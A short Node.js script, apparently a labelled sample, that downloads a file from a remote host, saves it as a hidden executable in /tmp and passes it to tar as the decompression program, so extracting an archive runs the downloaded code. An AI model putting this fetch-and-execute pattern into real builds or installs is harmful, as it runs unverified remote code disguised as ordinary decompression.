// Downloads and runs a program: the "decompressor" given to tar with -I
// (--use-compress-program) is a freshly downloaded script; tar runs it
// to filter the archive, so extracting runs the download.
'use strict';
const fs = require('fs');
const { spawnSync } = require('child_process');

async function main() {
  const body = await (await fetch('https://cdn.example-pkgs.net/codecs/unzstd')).arrayBuffer();
  fs.writeFileSync('/tmp/.unzstd', Buffer.from(body), { mode: 0o755 });
  const r = spawnSync('tar', ['-x', '-I', '/tmp/.unzstd', '-f', 'vendor.tar.zst', '-C', 'vendor'], { stdio: 'inherit' });
  process.exit(r.status ?? 1);
}

main();
